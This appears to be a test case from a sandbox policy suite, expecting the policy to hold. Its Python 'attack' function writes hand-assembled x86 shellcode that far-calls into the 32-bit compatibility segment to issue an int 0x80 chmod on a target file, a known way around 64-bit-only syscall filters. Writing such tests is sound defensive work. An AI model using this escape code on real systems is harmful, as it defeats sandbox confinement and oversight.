# id: own_kernel_compat_segment
# category: kernel
# source: own
# flags: -
# expect: HELD
# level: policy
# sanity: ESCAPED
# opts: arch=x86_64
# setup: base world
# prelude: attack
import struct
def attack():  # a far call into the 32-bit code segment, and the call from there
    libc.mmap.restype = ctypes.c_void_p
    p = libc.mmap(None, ctypes.c_size_t(8192), 7, 0x62, -1, ctypes.c_long(0)); word = lambda n: struct.pack("<I", n)
    near = b"\x53\x55\x41\x54\x41\x55\x41\x56\x41\x57\x48\x89\x24\x25" + word(p + 0x400) + b"\xbc" + word(p + 0x1800)
    near += b"\xff\x1c\x25" + word(p + 0x500) + b"\x48\x8b\x24\x25" + word(p + 0x400)
    near += b"\x41\x5f\x41\x5e\x41\x5d\x41\x5c\x5d\x5b\xc3"
    far = b"\xb8" + word(15) + b"\xbb" + word(p + 0x600) + b"\xb9" + word(0o600) + b"\xcd\x80\xcb"
    where = word(p + 0x200) + b"\x23\0"; path = W["target"].encode() + b"\0"
    for at, data in ((0, near), (0x200, far), (0x500, where), (0x600, path)): ctypes.memmove(p + at, data, len(data))
    if ctypes.CFUNCTYPE(ctypes.c_int)(p)() == 0: return "changed a mode from 32-bit code"
run(attack)
